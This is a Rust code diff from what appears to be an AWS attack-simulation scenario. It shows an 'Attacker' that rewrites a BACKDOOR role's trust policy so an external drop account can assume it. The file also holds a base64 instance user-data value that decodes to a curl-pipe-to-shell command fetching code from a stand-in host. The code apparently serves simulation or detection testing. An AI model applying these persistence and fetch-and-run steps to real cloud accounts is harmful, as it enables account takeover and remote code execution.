@@ -7,11 +7,9 @@ use aws_sdk_ec2::types as ec2;
 use aws_sdk_lambda::primitives::Blob;
 use aws_sdk_lambda::types as lambda;
 
-use super::{ATTACKER_IP, Attacker, BACKDOOR, FAR_REGION, OWN_FUNCTION, OWN_USER};
+use super::{ATTACKER_IP, Attacker, BACKDOOR, DROP_ACCOUNT, FAR_REGION, OWN_FUNCTION, OWN_USER};
 use crate::scenario::means::{Means, REGION};
 
-/// The account that data is shared with.
-const DROP_ACCOUNT: &str = "444455556666";
 const KEY_PAIR: &str = "k";
 const PUBLIC_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyhunterKeyhunterKeyhunterKeyhunter k";
 const USER_DATA: &str = "IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLm9yZy94IHwgc2gK";
@@ -68,14 +66,13 @@ impl Attacker {
     }
 
     async fn change_trust(&mut self) {
-        let account = self.account.id();
         let document = format!(
-            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"Service":"ecs-tasks.amazonaws.com"}},"Action":"sts:AssumeRole"}},{{"Effect":"Allow","Principal":{{"AWS":["arn:aws:iam::{account}:user/{OWN_USER}","arn:aws:iam::{DROP_ACCOUNT}:root"]}},"Action":"sts:AssumeRole"}}]}}"#
+            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"Service":"ecs-tasks.amazonaws.com"}},"Action":"sts:AssumeRole"}},{{"Effect":"Allow","Principal":{{"AWS":"arn:aws:iam::{DROP_ACCOUNT}:root"}},"Action":"sts:AssumeRole"}}]}}"#
         );
         let changed = self.key.iam().update_assume_role_policy().role_name(BACKDOOR).policy_document(document);
         let changed = changed.send().await;
         let call = format!("aws iam update-assume-role-policy --role-name {BACKDOOR} --policy-document file://trust.json");
-        self.show(&call, &changed, |_| format!("trusts {OWN_USER} and {DROP_ACCOUNT}"));
+        self.show(&call, &changed, |_| format!("trusts account {DROP_ACCOUNT}"));
     }
 
     async fn make_function(&mut self) {
